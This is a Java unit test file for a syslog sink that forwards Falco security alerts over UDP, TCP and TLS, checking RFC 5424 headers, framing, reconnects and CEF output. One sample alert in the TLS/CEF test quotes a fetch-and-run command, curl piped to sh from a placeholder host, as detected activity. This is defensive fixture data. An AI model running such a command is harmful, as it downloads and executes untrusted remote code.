package dev.vigil.outputs.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.event.Priority;
import dev.vigil.pipeline.ConfigException;
import dev.vigil.pipeline.FalcoAlert;
import dev.vigil.pipeline.SendResult;
import dev.vigil.pipeline.SendResult.Status;
import dev.vigil.pipeline.Sink;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.net.ServerSocketFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Syslog over loopback UDP, TCP and TLS listeners: RFC 5424 headers, octet counting, reconnects, CEF. */
class SyslogSinkTest {
    private static final Pattern RFC5424 = Pattern.compile("<(\\d{1,3})>1 (\\S+) (\\S+) vigil (\\d+) alert - (.*)", Pattern.DOTALL);

    @TempDir
    Path dir;

    /** A TCP (or TLS) receiver that decodes octet-counted frames from every connection it accepts. */
    private static final class StreamListener implements AutoCloseable {
        final ServerSocket server;
        final BlockingQueue<String> frames = new LinkedBlockingQueue<>();
        final List<Socket> clients = new CopyOnWriteArrayList<>();
        final Thread acceptor;

        StreamListener(ServerSocketFactory factory) throws IOException {
            server = factory.createServerSocket(0, 10, InetAddress.getLoopbackAddress());
            acceptor = Thread.ofPlatform().daemon().start(this::accept);
        }

        private void accept() {
            while (!server.isClosed()) {
                try {
                    Socket s = server.accept();
                    clients.add(s);
                    Thread.ofPlatform().daemon().start(() -> read(s));
                } catch (IOException e) {
                    return;
                }
            }
        }

        private void read(Socket s) {
            try (DataInputStream in = new DataInputStream(s.getInputStream())) {
                while (true) {
                    int length = 0;
                    int c;
                    while ((c = in.read()) != ' ') {
                        if (c < 0) {
                            return;
                        }
                        if (c < '0' || c > '9') {
                            frames.add("BAD FRAMING: " + (char) c);
                            return;
                        }
                        length = length * 10 + (c - '0');
                    }
                    byte[] msg = new byte[length];
                    in.readFully(msg);
                    frames.add(new String(msg, StandardCharsets.UTF_8));
                }
            } catch (EOFException e) {
                frames.add("TRUNCATED FRAME");
            } catch (IOException e) {
                // the test closed the connection
            }
        }

        String take() throws InterruptedException {
            String f = frames.poll(10, TimeUnit.SECONDS);
            assertThat(f).as("a frame within 10s").isNotNull();
            return f;
        }

        int port() {
            return server.getLocalPort();
        }

        @Override
        public void close() throws IOException {
            server.close();
            for (Socket s : clients) {
                s.close();
            }
        }
    }

    private static Sink sink(String... kv) throws ConfigException {
        return new SyslogFactory().create(Samples.settings("syslog", kv));
    }

    private static Matcher header(String message) {
        Matcher m = RFC5424.matcher(message);
        assertThat(m.matches()).as(message).isTrue();
        return m;
    }

    @Test
    void udpSendsOneRfc5424DatagramPerAlert() throws Exception {
        try (DatagramSocket listener = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            listener.setSoTimeout(10_000);
            try (Sink sink = sink("host", "127.0.0.1", "port", Integer.toString(listener.getLocalPort()))) {
                SendResult r = sink.send(Samples.envelopes(Samples.alert(), Samples.variant(1, Priority.CRITICAL)));
                assertThat(r.allDelivered()).as("%s", r).isTrue();
            }
            byte[] buf = new byte[65_535];
            DatagramPacket p = new DatagramPacket(buf, buf.length);
            listener.receive(p);
            Matcher m = header(new String(p.getData(), 0, p.getLength(), StandardCharsets.UTF_8));
            assertThat(m.group(1)).isEqualTo(Integer.toString(16 * 8 + 4)); // local0, warning
            assertThat(m.group(2)).isEqualTo("2026-11-26T10:00:00.123456Z");
            assertThat(m.group(3)).isEqualTo("node-1");
            assertThat(m.group(4)).isEqualTo(Long.toString(ProcessHandle.current().pid()));
            assertThat(JsonTree.parse(m.group(5))).isEqualTo(JsonTree.parse(Samples.ALERT_JSON));
            listener.receive(p);
            m = header(new String(p.getData(), 0, p.getLength(), StandardCharsets.UTF_8));
            assertThat(m.group(1)).isEqualTo(Integer.toString(16 * 8 + 2)); // local0, critical
            assertThat(m.group(2)).isEqualTo("2026-11-26T10:00:01.123456Z");
        }
    }

    @Test
    void udpCutsAnOversizedMessageAtACharacterBoundary() throws Exception {
        FalcoAlert a = Samples.alert();
        FalcoAlert big = new FalcoAlert(a.uuid(), a.timeNanos(), a.priority(), a.rule(), a.source(), a.tags(), a.hostname(),
                "é".repeat(40_000), a.outputFields());
        try (DatagramSocket listener = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            listener.setSoTimeout(10_000);
            listener.setReceiveBufferSize(1 << 20);
            try (Sink sink = sink("host", "127.0.0.1", "port", Integer.toString(listener.getLocalPort()), "facility", "auth")) {
                assertThat(sink.send(List.of(Samples.envelope(big))).allDelivered()).isTrue();
            }
            byte[] buf = new byte[65_535];
            DatagramPacket p = new DatagramPacket(buf, buf.length);
            listener.receive(p);
            assertThat(p.getLength()).isBetween(SyslogSink.UDP_MAX - 1, SyslogSink.UDP_MAX);
            String text = StandardCharsets.UTF_8.newDecoder().decode(java.nio.ByteBuffer.wrap(buf, 0, p.getLength())).toString();
            assertThat(header(text).group(1)).isEqualTo(Integer.toString(4 * 8 + 4));
        }
        assertThat(SyslogSink.utf8Prefix("aé".getBytes(StandardCharsets.UTF_8), 2)).isEqualTo(1);
        assertThat(SyslogSink.utf8Prefix("aé".getBytes(StandardCharsets.UTF_8), 3)).isEqualTo(3);
    }

    @Test
    void tcpFramesByOctetCountingAndReconnectsAfterTheReceiverCloses() throws Exception {
        try (StreamListener listener = new StreamListener(ServerSocketFactory.getDefault());
                Sink sink = sink("host", "127.0.0.1", "port", Integer.toString(listener.port()), "protocol", "tcp")) {
            FalcoAlert accented = Samples.variant(2, Priority.NOTICE);
            accented = new FalcoAlert(accented.uuid(), accented.timeNanos(), accented.priority(), "Règle ünïcode", accented.source(),
                    accented.tags(), accented.hostname(), "sortie: ça marche\nligne 2", accented.outputFields());
            SendResult r = sink.send(Samples.envelopes(Samples.alert(), Samples.variant(1, Priority.ERROR), accented));
            assertThat(r.allDelivered()).as("%s", r).isTrue();
            assertThat(JsonTree.parse(header(listener.take()).group(5))).isEqualTo(JsonTree.parse(Samples.ALERT_JSON));
            assertThat(header(listener.take()).group(1)).isEqualTo(Integer.toString(16 * 8 + 3));
            Matcher third = header(listener.take());
            assertThat(JsonTree.obj(JsonTree.parse(third.group(5)))).containsEntry("rule", "Règle ünïcode")
                    .containsEntry("output", "sortie: ça marche\nligne 2");
            assertThat(listener.clients).hasSize(1);

            listener.clients.getFirst().close();
            SendResult after = sink.send(List.of(Samples.envelope(Samples.variant(3, Priority.WARNING))));
            assertThat(after.allDelivered()).as("%s", after).isTrue();
            assertThat(JsonTree.obj(JsonTree.parse(header(listener.take()).group(5)))).containsEntry("rule", "Rule 3");
            assertThat(listener.clients).hasSize(2);
        }
    }

    @Test
    void aRefusedTcpConnectionIsRetried() throws Exception {
        int port;
        try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            port = s.getLocalPort();
        }
        try (Sink sink = sink("host", "127.0.0.1", "port", Integer.toString(port), "protocol", "tcp")) {
            SendResult r = sink.send(List.of(Samples.envelope(Samples.alert())));
            assertThat(r.status(0)).isEqualTo(Status.RETRY);
            assertThat(r.reason(0)).startsWith("127.0.0.1:" + port + " (tcp): ").contains("Connect");
        }
    }

    @Test
    void tlsTrustsTheConfiguredCaAndFramesLikeTcp() throws Exception {
        TestCerts certs = TestCerts.create(dir, "syslog");
        try (StreamListener listener = new StreamListener(certs.serverContext().getServerSocketFactory())) {
            String port = Integer.toString(listener.port());
            try (Sink untrusted = sink("host", "127.0.0.1", "port", port, "protocol", "tls")) {
                SendResult r = untrusted.send(List.of(Samples.envelope(Samples.alert())));
                assertThat(r.status(0)).isEqualTo(Status.RETRY);
                assertThat(r.reason(0)).containsIgnoringCase("certificat");
            }
            try (Sink sink = sink("host", "127.0.0.1", "port", port, "protocol", "tls", "cacertfile", certs.certPem().toString(),
                    "format", "cef")) {
                SendResult r = sink.send(Samples.envelopes(Samples.alert(), Samples.variant(1, Priority.DEBUG)));
                assertThat(r.allDelivered()).as("%s", r).isTrue();
                Matcher first = header(listener.take());
                assertThat(first.group(5)).isEqualTo("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Terminal shell in container|6|"
                        + "uuid=" + Samples.UUID + " start=1795687200123 msg=" + Samples.alert().output().replace("=", "\\=")
                        + " source=syscalls hostname=node-1 outputfields=container.id:abc123 evt.time:1795687200123456789"
                        + " fd.name: k8s.ns.name:default k8s.pod.name:web-0 proc.cmdline:bash -c 'curl -s http://example.invalid/x | sh'"
                        + " user.name:root tags=container,mitre_execution,shell");
                assertThat(header(listener.take()).group(5)).contains("|Rule 1|0|");

                assertThat(sink.send(List.of(Samples.envelope(Samples.variant(2, Priority.DEBUG)))).allDelivered()).isTrue();
                assertThat(header(listener.take()).group(5)).contains("|Rule 2|0|");
                assertThat(listener.clients).hasSize(2); // the refused untrusted attempt and this connection

                listener.clients.getLast().close();
                assertThat(sink.send(List.of(Samples.envelope(Samples.variant(3, Priority.DEBUG)))).allDelivered()).isTrue();
                assertThat(header(listener.take()).group(5)).contains("|Rule 3|0|");
                assertThat(listener.clients).hasSize(3);
            }
        }
    }

    @Test
    void cefEscapesItsSeparators() {
        FalcoAlert a = Samples.alert();
        FalcoAlert odd = new FalcoAlert(a.uuid(), a.timeNanos(), Priority.EMERGENCY, "a|b\\c", a.source(), List.of(), a.hostname(),
                "x=1\ny", java.util.Map.of("k", "v=w"));
        StringBuilder sb = new StringBuilder();
        SyslogSink.cef(sb, odd);
        assertThat(sb.toString()).startsWith("CEF:0|Falcosecurity|Falco|1.0|Falco Event|a\\|b\\\\c|10|")
                .contains(" msg=x\\=1\\ny ").contains(" outputfields=k:v\\=w ").endsWith(" tags=");
    }

    @Test
    void configuration() throws Exception {
        assertThatThrownBy(() -> sink("port", "514")).isInstanceOf(ConfigException.class).hasMessageContaining("test-syslog")
                .hasMessageContaining("host");
        assertThatThrownBy(() -> sink("host", "h", "protocol", "relp")).isInstanceOf(ConfigException.class).hasMessageContaining("protocol");
        assertThatThrownBy(() -> sink("host", "h", "facility", "local9")).isInstanceOf(ConfigException.class).hasMessageContaining("facility");
        assertThatThrownBy(() -> sink("host", "h", "port", "70000")).isInstanceOf(ConfigException.class).hasMessageContaining("port");
    }

}
